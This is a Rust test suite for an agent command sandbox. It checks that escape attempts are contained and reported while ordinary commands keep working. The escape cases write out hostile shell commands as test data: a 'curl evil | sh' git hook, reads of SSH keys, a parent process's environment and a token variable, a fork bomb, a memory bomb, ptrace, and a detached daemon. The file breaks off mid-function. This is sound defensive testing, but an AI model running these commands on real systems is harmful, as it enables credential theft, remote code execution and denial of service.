//! The sandbox escape suite: every escape runs through the real binary, with and without
//! bubblewrap, in a temporary HOME, and passes only if the escape fails and the report names it
//! with the right violation kind. Plus the positive side: ordinary commands still work.

use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

use serde_json::Value;

const SECRET: &str = "SECRET-KEY-MATERIAL-5f1c";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Mode {
    /// Landlock, seccomp and rlimits only.
    Native,
    /// The namespaces as well, made by the supervisor itself (the default where available).
    Bwrap,
    /// The namespaces through bubblewrap and the helper (forced).
    Bubblewrap,
}

impl Mode {
    /// The `guard exec` flag that selects the mode (flags only: the environment cannot weaken
    /// the sandbox).
    fn flag(self) -> Option<&'static str> {
        match self {
            Mode::Native => Some("--no-bwrap"),
            Mode::Bwrap => None,
            Mode::Bubblewrap => Some("--force-bwrap"),
        }
    }
}

/// A temporary world: HOME with a planted secret, XDG dirs with small test profiles, TMPDIR, a
/// git project with a symlink to the secret, and a tiny crate.
struct World {
    tmp: tempfile::TempDir,
}

fn real_home() -> PathBuf {
    PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()))
}

fn write(path: &Path, text: &str) {
    fs_err::create_dir_all(path.parent().unwrap()).unwrap();
    fs_err::write(path, text).unwrap();
}

impl World {
    fn new() -> Self {
        // Under /tmp on purpose: the project then lives beneath the run's private /tmp.
        let tmp = tempfile::tempdir_in("/tmp").unwrap();
        let w = Self { tmp };
        for d in ["home", "config", "data", "tmp", "project", "crate"] {
            fs_err::create_dir_all(w.root().join(d)).unwrap();
        }
        write(&w.home().join(".ssh/id_ed25519"), SECRET);
        write(&w.project().join("README"), "hello from the project\n");
        write(&w.project().join(".env"), &format!("API={SECRET}\n"));
        std::os::unix::fs::symlink(w.home().join(".ssh/id_ed25519"), w.project().join("leak"))
            .unwrap();
        let git = Command::new("git")
            .args(["init", "-q"])
            .current_dir(w.project())
            .status()
            .unwrap();
        assert!(git.success());
        let profiles = w.root().join("config/terraphim/guard/profiles");
        let readonly = include_str!("../../../../kg/profiles/readonly.toml");
        let tight = readonly
            .replace("max_processes = 64", "max_processes = 16")
            .replace("max_threads = 1024", "max_threads = 64")
            .replace("memory_mb = 2048", "memory_mb = 64")
            .replace("cpu_seconds = 60", "cpu_seconds = 1")
            .replace("wall_seconds = 120", "wall_seconds = 3")
            .replace("output_mb = 16", "output_mb = 1");
        write(&profiles.join("tight.toml"), &tight);
        // CPU time lags the wall clock on a loaded machine: give the CPU limit room to fire first.
        // The escape probes use it too: none of them is about the wall clock, and a loaded
        // machine (two escape suites at once, root and nobody) can take 3 s to start python.
        write(
            &profiles.join("spin.toml"),
            &tight.replace("wall_seconds = 3", "wall_seconds = 10"),
        );
        write(
            &profiles.join("lo.toml"),
            &tight
                .replace("network = \"deny\"", "network = \"loopback\"")
                .replace("wall_seconds = 3", "wall_seconds = 10"),
        );
        write(
            &w.root().join("crate/Cargo.toml"),
            "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        );
        write(
            &w.root().join("crate/src/main.rs"),
            "fn main() { println!(\"tiny built\"); }\n",
        );
        // A tool in a toolchain home under HOME.
        let tool = w.home().join(".local/bin/hello-tool");
        write(&tool, "#!/bin/sh\necho tool-ok\n");
        {
            use std::os::unix::fs::PermissionsExt as _;
            fs_err::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        // A repository without a hooks directory, with an untracked .env.
        repo(&w, "commit-repo", false);
        w
    }

    fn root(&self) -> &Path {
        self.tmp.path()
    }
    fn home(&self) -> PathBuf {
        self.root().join("home")
    }
    fn project(&self) -> PathBuf {
        self.root().join("project")
    }

    fn command(&self, _mode: Mode, cwd: &Path, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_terraphim-agent"));
        let cargo_home = std::env::var("CARGO_HOME")
            .unwrap_or_else(|_| real_home().join(".cargo").display().to_string());
        let rustup_home = std::env::var("RUSTUP_HOME")
            .unwrap_or_else(|_| real_home().join(".rustup").display().to_string());
        cmd.args(args)
            .current_dir(cwd)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("HOME", self.home())
            .env("XDG_CONFIG_HOME", self.root().join("config"))
            .env("XDG_DATA_HOME", self.root().join("data"))
            .env("TMPDIR", self.root().join("tmp"))
            .env("CARGO_HOME", cargo_home)
            .env("RUSTUP_HOME", rustup_home)
            .env("CARGO_NET_OFFLINE", "true")
            .env("GITHUB_TOKEN", "ghp-token-7d2e")
            .stdin(Stdio::null());
        if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
            cmd.env("RUSTUP_TOOLCHAIN", t);
        }
        cmd
    }

    fn exec(&self, mode: Mode, profile: &str, cwd: &Path, shell: &str) -> Outcome {
        static N: AtomicU32 = AtomicU32::new(0);
        let report = self
            .root()
            .join(format!("report-{}.json", N.fetch_add(1, Ordering::Relaxed)));
        let r = report.display().to_string();
        let mut args = vec!["guard", "exec", "--profile", profile, "--report", &r];
        args.extend(mode.flag());
        args.extend(["--", shell]);
        let out = self.command(mode, cwd, &args).output().unwrap();
        let report = fs_err::read_to_string(&report)
            .ok()
            .map(|t| serde_json::from_str(&t).unwrap());
        Outcome {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            report,
        }
    }
}

#[derive(Debug)]
struct Outcome {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    report: Option<Value>,
}

impl Outcome {
    fn kinds(&self) -> Vec<String> {
        let Some(r) = &self.report else {
            return Vec::new();
        };
        r["violations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v["kind"].as_str().unwrap().to_owned())
            .collect()
    }
}

/// What the machine offers, asked from the binary itself.
fn host() -> Value {
    let out = Command::new(env!("CARGO_BIN_EXE_terraphim-agent"))
        .args(["guard", "profiles", "--json"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Whether `mode` can run here; prints `skipping: ...` (or fails under TERRAPHIM_GUARD_NO_SKIP=1).
pub(crate) fn available(mode: Mode) -> bool {
    let h = host();
    let why = if h["host"]["landlock_abi"].as_u64().unwrap_or(0) < 2 {
        Some("Landlock is not available")
    } else if !h["host"]["seccomp_user_notif"].as_bool().unwrap_or(false) {
        Some("seccomp user notification is not available")
    } else if mode == Mode::Bwrap
        && !h["host"]["namespaces"].as_bool().unwrap_or(false)
        && !h["bwrap_works"].as_bool().unwrap_or(false)
    {
        Some("namespaces cannot be made here")
    } else if mode == Mode::Bubblewrap && !h["bwrap_works"].as_bool().unwrap_or(false) {
        Some("bubblewrap is not installed or does not work here")
    } else {
        None
    };
    match why {
        None => true,
        Some(why) if std::env::var("TERRAPHIM_GUARD_NO_SKIP").as_deref() == Ok("1") => {
            panic!("{why}, and TERRAPHIM_GUARD_NO_SKIP=1 forbids skipping")
        }
        Some(why) => {
            eprintln!("skipping: {why}");
            false
        }
    }
}

/// The exit code a contained case must have.
#[derive(Debug, Clone, Copy)]
enum Code {
    /// Not 0: the attempt failed.
    Fail,
    /// Exactly this.
    Is(i32),
}

/// How a case must end.
enum Expect {
    /// The escape failed and the report names this violation kind.
    Contained { kind: &'static str, code: Code },
    /// The command worked and printed this.
    Works { stdout: &'static str },
    /// The sandbox refused to run (exit 125) with this message.
    Refused { stderr: &'static str },
}

/// A check on the world after a run.
type AfterCheck = dyn Fn(&World, &Outcome) -> Result<(), String> + Sync;

struct Case {
    name: &'static str,
    profile: &'static str,
    /// `{root}` `{port}` `{marker}` are replaced.
    command: String,
    cwd: &'static str,
    expect: Expect,
    /// A check on the world after the run (the escape left no trace).
    after: Option<Box<AfterCheck>>,
}

fn case(name: &'static str, profile: &'static str, command: &str, expect: Expect) -> Case {
    Case {
        name,
        profile,
        command: command.to_owned(),
        cwd: "project",
        expect,
        after: None,
    }
}

impl Case {
    fn after(
        mut self,
        f: impl Fn(&World, &Outcome) -> Result<(), String> + Sync + 'static,
    ) -> Self {
        self.after = Some(Box::new(f));
        self
    }
    fn in_dir(mut self, dir: &'static str) -> Self {
        self.cwd = dir;
        self
    }
}

fn no_secret(_: &World, o: &Outcome) -> Result<(), String> {
    if o.stdout.contains(SECRET) || o.stderr.contains(SECRET) {
        Err("the secret leaked".into())
    } else {
        Ok(())
    }
}

fn no_process_with(marker: String) -> impl Fn(&World, &Outcome) -> Result<(), String> + Sync {
    move |_, _| {
        let out = Command::new("pgrep")
            .args(["-f", &marker])
            .output()
            .map_err(|e| e.to_string())?;
        let pids = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        if pids.is_empty() {
            Ok(())
        } else {
            Err(format!("processes outlived the run: {pids}"))
        }
    }
}

#[track_caller]
fn check(world: &World, mode: Mode, case: &Case) -> Result<(), String> {
    let cwd = world.root().join(case.cwd);
    let o = world.exec(mode, case.profile, &cwd, &case.command);
    let ctx = || format!("{} [{mode:?}]: {o:#?}", case.name);
    match &case.expect {
        Expect::Contained { kind, code } => {
            let Some(report) = &o.report else {
                return Err(format!("no report: {}", ctx()));
            };
            if !o.kinds().iter().any(|k| k == kind) {
                return Err(format!("no `{kind}` violation: {}", ctx()));
            }
            let want_backend = match mode {
                Mode::Bwrap => "native+ns",
                Mode::Bubblewrap => "native+bwrap",
                Mode::Native => "native",
            };
            if report["backend"] != want_backend {
                return Err(format!("backend is not {want_backend}: {}", ctx()));
            }
            for v in report["violations"].as_array().unwrap() {
                let ev = v["evidence"].as_str().unwrap_or("");
                let sourced = [
                    "seccomp: ",
                    "supervisor: ",
                    // The guard's proxy: a request by name under `deny` or an allow-list.
                    "proxy: ",
                    "helper: ",
                    "signal ",
                    "stderr heuristic: ",
                    "command text: ",
                    "exit status ",
                ];
                if !sourced.iter().any(|s| ev.starts_with(s)) {
                    return Err(format!("evidence without a source `{ev}`: {}", ctx()));
                }
            }
            match code {
                Code::Is(c) if o.code != Some(*c) => {
                    return Err(format!("exit code is not {c}: {}", ctx()));
                }
                Code::Fail if o.code == Some(0) => return Err(format!("exit code 0: {}", ctx())),
                Code::Is(_) | Code::Fail => {}
            }
        }
        Expect::Works { stdout } => {
            if o.code != Some(0) || !o.stdout.contains(stdout) {
                return Err(format!("did not work: {}", ctx()));
            }
            let kinds = o.kinds();
            if !kinds.is_empty() {
                return Err(format!("violations {kinds:?} on a clean run: {}", ctx()));
            }
        }
        Expect::Refused { stderr } => {
            if o.code != Some(125) || !o.stderr.contains(stderr) || o.report.is_some() {
                return Err(format!("not refused: {}", ctx()));
            }
        }
    }
    if let Some(after) = &case.after {
        after(world, &o).map_err(|e| format!("{e}: {}", ctx()))?;
    }
    Ok(())
}

/// Run every case of a table at once (the slow ones wait on wall-clock limits) and report all
/// failures together.
fn run_table(mode: Mode, cases: Vec<Case>) {
    if !available(mode) {
        return;
    }
    let world = World::new();
    let failures: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = cases
            .iter()
            .map(|c| s.spawn(|| check(&world, mode, c)))
            .collect();
        handles
            .into_iter()
            .filter_map(|h| h.join().unwrap().err())
            .collect()
    });
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

fn escapes(mode: Mode) -> Vec<Case> {
    use Expect::*;
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let tag = format!(
        "{}{}",
        std::process::id(),
        match mode {
            Mode::Bwrap => 1,
            Mode::Native => 2,
            Mode::Bubblewrap => 3,
        }
    );
    let tcp = std::sync::Mutex::new(tcp);
    let tag2 = tag.clone();
    let udp = std::sync::Mutex::new(udp);
    let hooks = match mode {
        Mode::Bwrap | Mode::Bubblewrap => case(
            "write .git/hooks under build",
            "build",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            Contained {
                kind: "fs-write",
                code: Code::Fail,
            },
        )
        .after(|w, _| {
            if w.project().join(".git/hooks/pre-commit").exists() {
                Err("hook written".into())
            } else {
                Ok(())
            }
        }),
        Mode::Native => case(
            "write .git/hooks under build",
            "build",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            Refused {
                stderr: "inside a writable root",
            },
        ),
    };
    let wget_port = tcp_port;
    let commit = match mode {
        Mode::Bwrap | Mode::Bubblewrap => case(
            "git add and commit under build: no hooks directory, an ignored hidden .env",
            "build",
            "git add -A && git -c user.email=t@example.invalid -c user.name=t -c maintenance.auto=false -c gc.auto=0 commit -qm work && echo committed",
            Works { stdout: "committed" },
        )
        .in_dir("commit-repo"),
        Mode::Native => case(
            "git add and commit under build without namespaces",
            "build",
            "git status",
            Refused { stderr: "inside a writable root" },
        )
        .in_dir("commit-repo"),
    };
    let loopback = match mode {
        Mode::Bwrap | Mode::Bubblewrap => case(
            "loopback profile: own loopback works, the host's is not there",
            "lo",
            &format!(
                "/usr/bin/python3 -c 'import socket\ns = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen()\nsocket.create_connection(s.getsockname()); print(\"self ok\")\ntry:\n    socket.create_connection((\"127.0.0.1\", {tcp_port}), timeout=2); print(\"host reached\")\nexcept OSError:\n    print(\"host refused\")'"
            ),
            Works {
                stdout: "self ok\nhost refused",
            },
        ),
        Mode::Native => case(
            "loopback profile without bubblewrap",
            "lo",
            "true",
            Refused { stderr: "loopback" },
        ),
    };
    vec![
        loopback,
        case("read the parent's environment through /proc", "readonly", "cat /proc/$PPID/environ", Contained { kind: "ptrace", code: Code::Fail })
            .after(|_, o| if o.stdout.contains("ghp-token-7d2e") { Err("the token leaked".into()) } else { Ok(()) }),
        case("read the planted secret", "readonly", "cat ~/.ssh/id_ed25519", Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
        case("read the secret through a project symlink", "readonly", "cat leak", Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
        case("read a hidden .env in the project", "readonly", "cat .env", Expect::Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
        case("write outside project and TMPDIR", "readonly", &format!("touch /var/tmp/escape-{tag}"), Contained { kind: "fs-write", code: Code::Fail })
            .after(move |_, _| {
                let p = PathBuf::from(format!("/var/tmp/escape-{tag2}"));
                if p.exists() {
                    let _ = fs_err::remove_file(&p);
                    Err("file written outside".into())
                } else {
                    Ok(())
                }
            }),
        case("write into the read-only project", "readonly", "echo pwned > README", Contained { kind: "fs-write", code: Code::Fail }).after(|w, _| {
            let text = fs_err::read_to_string(w.project().join("README")).unwrap();
            if text.contains("pwned") { Err("README overwritten".into()) } else { Ok(()) }
        }),
        hooks,
        case("TCP connect to a loopback listener", "readonly", &format!("echo hi > /dev/tcp/127.0.0.1/{tcp_port}"), Contained { kind: "network", code: Code::Fail })
            .after(move |_, _| match tcp.lock().unwrap().accept() {
                Ok(_) => Err("the listener got a connection".into()),
                Err(_) => Ok(()),
            }),
        case(
            "UDP send",
            "readonly",
            &format!("/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", {udp_port}))'"),
            Contained { kind: "network", code: Code::Fail },
        )
        .after(move |_, _| {
            let mut buf = [0u8; 16];
            match udp.lock().unwrap().recv(&mut buf) {
                Ok(_) => Err("the UDP datagram arrived".into()),
                Err(_) => Ok(()),
            }
        }),
        case("read an env secret", "readonly", "echo \"token=$GITHUB_TOKEN\"", Contained { kind: "env", code: Code::Is(0) }).after(|_, o| {
            if o.stdout.contains("ghp-token-7d2e") { Err("the token leaked".into()) } else { Ok(()) }
        }),
        case("ptrace the parent", "readonly", "/usr/bin/python3 -c 'import ctypes, os, sys; l = ctypes.CDLL(None, use_errno=True); sys.exit(0 if l.ptrace(16, os.getppid(), 0, 0) == 0 else 1)'", Contained { kind: "ptrace", code: Code::Fail }),
        case("fork bomb", "tight", &format!("bomb{tag}() {{ bomb{tag} | bomb{tag}; }}; bomb{tag}"), Contained { kind: "spawn", code: Code::Is(124) })
            .after(no_process_with(format!("bomb{tag}"))),
        case("memory bomb", "tight", "/usr/bin/python3 -c 'x = bytearray(512 * 1024 * 1024)'", Contained { kind: "memory", code: Code::Fail }),
        case("CPU spin", "spin", "while :; do :; done", Contained { kind: "cpu", code: Code::Fail }),
        case("sleep past the wall limit", "tight", &format!("sleep 3{tag}"), Contained { kind: "wall-time", code: Code::Is(124) })
            .after(no_process_with(format!("sleep 3{tag}"))),
        case(
            "a setsid/nohup daemon outliving the run",
            "tight",
            &format!("setsid nohup sleep 4{tag} >/dev/null 2>&1 & echo started"),
            Contained { kind: "spawn", code: Code::Is(0) },
        )
        .after(no_process_with(format!("sleep 4{tag}"))),
        case("output flood", "tight", "yes flood", Contained { kind: "output", code: Code::Is(123) }).after(|_, o| {
            if o.stdout.len() > 1024 * 1024 { Err(format!("{} bytes passed the cap", o.stdout.len())) } else { Ok(()) }
        }),
        case("strict: no spawning", "strict", "ls | wc -l", Contained { kind: "spawn", code: Code::Fail }),
        case("strict: a second program is refused at once, with the rule named", "strict", "ls; echo a | cat", Contained { kind: "spawn", code: Code::Fail })
            .after(|_, o| {
                let exact = o.report.as_ref().is_some_and(|r| {
                    r["violations"].as_array().into_iter().flatten().any(|v| {
                        v["evidence"].as_str().is_some_and(|e| e.contains("refused with EPERM"))
                    })
                });
                if !exact || !o.stderr.contains("max_processes = 1") {
                    Err("not refused at once with the profile's rule".into())
                } else {
                    Ok(())
                }
            }),
        case("wget to a refused loopback address fails at once", "tight", &format!("wget -q -O- http://127.0.0.1:{wget_port}/"), Contained { kind: "network", code: Code::Fail })
            .after(|_, o| if o.code == Some(124) { Err("wget hung until the wall limit".into()) } else { Ok(()) }),
        commit,
    ]
}

fn positives() -> Vec<Case> {
    use Expect::*;
    vec![
        case("ls", "readonly", "ls", Works { stdout: "README" }),
        case(
            "cat a project file",
            "readonly",
            "cat README",
            Works {
                stdout: "hello from the project",
            },
        ),
        case(
            "cargo --version",
            "readonly",
            "cargo --version",
            Works { stdout: "cargo " },
        ),
        case(
            "a pipeline",
            "readonly",
            "cat README | tr a-z A-Z | grep -c HELLO",
            Works { stdout: "1" },
        ),
        case(
            "git status",
            "readonly",
            "git status --short --branch",
            Works { stdout: "## " },
        ),
        case(
            "temporary files",
            "readonly",
            "echo scratch > \"$TMPDIR/scratch-probe.txt\" && cat \"$TMPDIR/scratch-probe.txt\"",
            Works { stdout: "scratch" },
        ),
        case(
            "TMPDIR cannot collide with a project under /tmp",
            "readonly",
            r#"case "$PWD" in /tmp/*) ;; *) echo "project not under /tmp"; exit 1 ;; esac
first=${PWD#/tmp/}; first=${first%%/*}
mkdir -p "$TMPDIR/$first/project" && echo tmp-ok > "$TMPDIR/$first/project/README" && cat "$TMPDIR/$first/project/README""#,
            Works { stdout: "tmp-ok" },
        )
        .after(|w, _| {
            let text = fs_err::read_to_string(w.project().join("README")).map_err(|e| e.to_string())?;
            if text == "hello from the project\n" {
                Ok(())
            } else {
                Err(format!("the project's README changed: {text:?}"))
            }
        }),
        case(
            "a Unix-socket server of the run itself can be reached (the supervisor connects)",
            "readonly",
            "/usr/bin/python3 -c 'import os, socket\np = os.path.join(os.environ[\"TMPDIR\"], \"own.sock\")\ns = socket.socket(socket.AF_UNIX); s.bind(p); s.listen()\nc = socket.socket(socket.AF_UNIX); c.connect(p); a, _ = s.accept()\nc.sendall(b\"own-socket-ok\"); print(a.recv(32).decode())'",
            Works {
                stdout: "own-socket-ok",
            },
        ),
        case(
            "device nodes stay writable",
            "readonly",
            "echo x > /dev/null && head -c 4 /dev/zero | wc -c && echo dev-ok",
            Works { stdout: "dev-ok" },
        ),
        case(
            "a tool in a toolchain home under HOME starts",
            "readonly",
            "~/.local/bin/hello-tool",
            Works { stdout: "tool-ok" },
        ),
        case(
            "strict: one program",
            "strict",
            "cat README",
            Works { stdout: "hello" },
        ),
        case(
            "cargo build under build",
            "build",
            "cargo build -q --offline && ./target/debug/tiny",
            Works {
                stdout: "tiny built",
            },
        )
        .in_dir("crate"),
    ]
}

#[test]
fn escapes_are_contained_natively() {
    run_table(Mode::Native, escapes(Mode::Native));
}

#[test]
fn escapes_are_contained_with_bubblewrap() {
    run_table(Mode::Bwrap, escapes(Mode::Bwrap));
}

#[test]
fn escapes_are_contained_with_bubblewrap_forced() {
    run_table(Mode::Bubblewrap, escapes(Mode::Bubblewrap));
}

#[test]
fn ordinary_commands_work_with_bubblewrap_forced() {
    run_table(Mode::Bubblewrap, positives());
}

#[test]
fn ordinary_commands_work_natively() {
    run_table(Mode::Native, positives());
}

#[test]
fn ordinary_commands_work_with_bubblewrap() {
    run_table(Mode::Bwrap, positives());
}

#[test]
fn unknown_profile_is_a_usage_error() {
    let world = World::new();
    let o = world.exec(Mode::Native, "nope", &world.project(), "true");
    assert_eq!(o.code, Some(2), "{o:#?}");
    assert!(
        o.stderr.contains(
            "unknown sandbox profile `nope` (known: build, install, lo, readonly, spin, strict, tight, workspace)"
        ),
        "{o:#?}"
    );
}

#[test]
fn json_report_is_the_last_stderr_line_and_stdout_streams() {
    let world = World::new();
    let out = world
        .command(
            Mode::Native,
            &world.project(),
            &[
                "guard",
                "exec",
                "--no-bwrap",
                "--profile",
                "readonly",
                "--json",
                "--id",
                "t-1",
                "--",
                "echo out; echo err >&2; exit 3",
            ],
        )
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "out\n");
    let stderr = String::from_utf8_lossy(&out.stderr);
    let last = stderr.lines().last().unwrap();
    let report: Value = serde_json::from_str(last).unwrap();
    assert_eq!(
        (
            report["schema"].as_u64(),
            report["id"].as_str(),
            report["exit_code"].as_i64()
        ),
        (Some(1), Some("t-1"), Some(3))
    );
    assert_eq!(report["profile"], "readonly");
    assert!(stderr.starts_with("err\n"), "{stderr}");
    let mut removed = String::new();
    for name in report["env_removed"].as_array().unwrap() {
        removed.push_str(name.as_str().unwrap());
        removed.push(' ');
    }
    assert!(removed.contains("GITHUB_TOKEN"), "{removed}");
}

// ---------------------------------------------------------------------------------------------
// The escape probes: each attempt is a small program (tests/fixtures/probes/probe.py, fed to
// python on stdin so nothing of it has to be readable inside the sandbox), run twice: unconfined,
// where it must work (proving the probe does what it says), and under `guard exec`, where it must
// fail and the report must name the violation. Probes use their own listener, their own files and
// inert payloads, in the temporary world.

const PROBE: &str = include_str!("../fixtures/probes/probe.py");

/// One probe: what it runs where, and what containment must look like.
struct Probe {
    name: &'static str,
    /// What the attempt proves when it is contained.
    proves: &'static str,
    profile: &'static str,
    /// The probe's name and arguments, unconfined (cwd, args).
    free: (PathBuf, Vec<String>),
    /// The same probe under `guard exec` (cwd, args).
    jailed: (PathBuf, Vec<String>),
    /// The violation kind the report must have.
    kind: &'static str,
    /// A check of the world after the confined run.
    after: Option<Box<AfterCheck>>,
    /// Contained by undoing it after the run (the post-run check of protected paths): the
    /// attempt itself may report success inside the sandbox.
    undone: bool,
}

fn probe_args(args: &[&str]) -> Vec<String> {
    args.iter().map(|s| (*s).to_owned()).collect()
}

fn run_probe_free(world: &World, cwd: &Path, args: &[String]) -> Outcome {
    let out = Command::new("/usr/bin/python3")
        .arg("-")
        .args(args)
        .current_dir(cwd)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", world.home())
        .env("TMPDIR", world.root().join("tmp"))
        .stdin(probe_stdin(world))
        .output()
        .unwrap();
    Outcome {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        report: None,
    }
}

fn probe_stdin(world: &World) -> Stdio {
    let path = world.root().join("probe.py");
    if !path.exists() {
        fs_err::write(&path, PROBE).unwrap();
    }
    Stdio::from(fs_err::File::open(&path).unwrap().into_parts().0)
}

fn run_probe_jailed(
    world: &World,
    mode: Mode,
    profile: &str,
    cwd: &Path,
    args: &[String],
) -> Outcome {
    static N: AtomicU32 = AtomicU32::new(0);
    let report = world.root().join(format!(
        "probe-report-{}.json",
        N.fetch_add(1, Ordering::Relaxed)
    ));
    let r = report.display().to_string();
    let mut shell = String::from("/usr/bin/python3 -");
    for a in args {
        shell.push_str(" '");
        shell.push_str(a);
        shell.push('\'');
    }
    let mut argv = vec!["guard", "exec", "--profile", profile, "--report", &r];
    argv.extend(mode.flag());
    argv.extend(["--", &shell]);
    let out = world
        .command(mode, cwd, &argv)
        .stdin(probe_stdin(world))
        .output()
        .unwrap();
    let report = fs_err::read_to_string(&report)
        .ok()
        .map(|t| serde_json::from_str(&t).unwrap());
    Outcome {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        report,
    }
}

/// A Unix socket server of the test's own, in a directory the sandbox cannot list: answers
/// `pong` and counts connections.
fn unix_listener(dir: &Path) -> (PathBuf, std::sync::Arc<AtomicU32>) {
    use std::io::{Read as _, Write as _};
    fs_err::create_dir_all(dir).unwrap();
    let path = dir.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let count = std::sync::Arc::new(AtomicU32::new(0));
    let c = count.clone();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            c.fetch_add(1, Ordering::SeqCst);
            let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(2)));
            let mut buf = [0u8; 16];
            let _ = s.read(&mut buf);
            let _ = s.write_all(b"pong\n");
        }
    });
    (path, count)
}

/// A Unix datagram socket of the test's own, counting the datagrams sent from confined runs
/// (tagged `jailed`; the free runs send `free`).
fn unix_dgram_listener(path: &Path) -> std::sync::Arc<AtomicU32> {
    let sock = std::os::unix::net::UnixDatagram::bind(path).unwrap();
    let count = std::sync::Arc::new(AtomicU32::new(0));
    let c = count.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 64];
        while let Ok(n) = sock.recv(&mut buf) {
            if buf[..n].starts_with(b"jailed") {
                c.fetch_add(1, Ordering::SeqCst);
            }
        }
    });
    count
}

/// A git repository of its own (README, .env, one commit), for probes that change `.git`.
fn repo(world: &World, name: &str, hooks: bool) -> PathBuf {
    let dir = world.root().join(name);
    write(&dir.join("README"), "a repository\n");
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args(args)
            .current_dir(&dir)
            .env("HOME", world.home())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdout(Stdio::null())
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&[
        "-c",
        "user.email=probe@example.invalid",
        "-c",
        "user.name=probe",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "start",
    ]);
    if !hooks {
        fs_err::remove_dir_all(dir.join(".git/hooks")).unwrap();
    }
    write(&dir.join(".env"), &format!("API={SECRET}\n"));
    write(&dir.join(".gitignore"), ".env\n");
    dir
}

fn probes(world: &World, mode: Mode) -> Vec<Probe> {
    let ns = mode != Mode::Native;
    let root = world.root().to_path_buf();
    // Natively in a directory the sandbox cannot list; with namespaces the world's own /tmp is
    // replaced by the private one, so the socket lives in a directory bound into the view (as
    // the host's /run is).
    let sock_dir = if ns {
        root.join("crate/sock")
    } else {
        root.join("sock")
    };
    let (sock, connections) = unix_listener(&sock_dir);
    let sock = sock.display().to_string();
    let scratch = root.join("scratch");
    fs_err::create_dir_all(&scratch).unwrap();
    let crate_dir = root.join("crate");
    let s = |p: &Path| p.display().to_string();
    let mut out = Vec::new();
    let mut add = |p: Probe| out.push(p);

    // A datagram socket of the test's own beside the stream one (journald's, syslog's).
    let dgram = sock_dir.join("log.sock");
    let datagrams = unix_dgram_listener(&dgram);
    let dgram = dgram.display().to_string();
    let profiles: &[&'static str] = if ns {
        &["readonly", "build", "lo"]
    } else {
        &["readonly", "build"]
    };
    for how in ["socket", "pair"] {
        for &profile in profiles {
            let jailed = datagrams.clone();
            add(Probe {
                name: if how == "pair" {
                    "sendmsg with an address from a datagram socketpair to a host datagram socket"
                } else {
                    "sendmsg with an address from an unconnected datagram socket to a host datagram socket"
                },
                proves: "no datagram Unix socket can be made where the network is not allowed, so sendmsg cannot go around the connect interception",
                profile,
                free: (
                    scratch.clone(),
                    probe_args(&["unix-dgram", how, &dgram, "free"]),
                ),
                jailed: (
                    crate_dir.clone(),
                    probe_args(&["unix-dgram", how, &dgram, "jailed"]),
                ),
                kind: "network",
                undone: false,
                after: Some(Box::new(move |_, _| {
                    if jailed.load(Ordering::SeqCst) > 0 {
                        return Err("the datagram listener got a message from the sandbox".into());
                    }
                    Ok(())
                })),
            });
        }
    }
    for &profile in profiles {
        let before = connections.clone();
        // The first call of the after-check (after the free run) takes the baseline.
        let seen2 = std::sync::Arc::new(AtomicU32::new(u32::MAX));
        add(Probe {
            name: "connect to a pathname Unix socket (an ssh-agent, a Docker socket)",
            proves: "network = deny and loopback cover pathname Unix sockets: connect() is held by seccomp and never runs (loopback: the supervisor connects IPv4/IPv6 itself), with no check-then-use race",
            profile,
            free: (scratch.clone(), probe_args(&["unix-connect", &sock])),
            jailed: (crate_dir.clone(), probe_args(&["unix-connect", &sock])),
            kind: "network",
            undone: false,
            after: Some(Box::new(move |_, _| {
                // The free run connected once; the confined one must not have.
                let now = before.load(Ordering::SeqCst);
                let first = seen2.swap(now, Ordering::SeqCst);
                if first != u32::MAX && now > first {
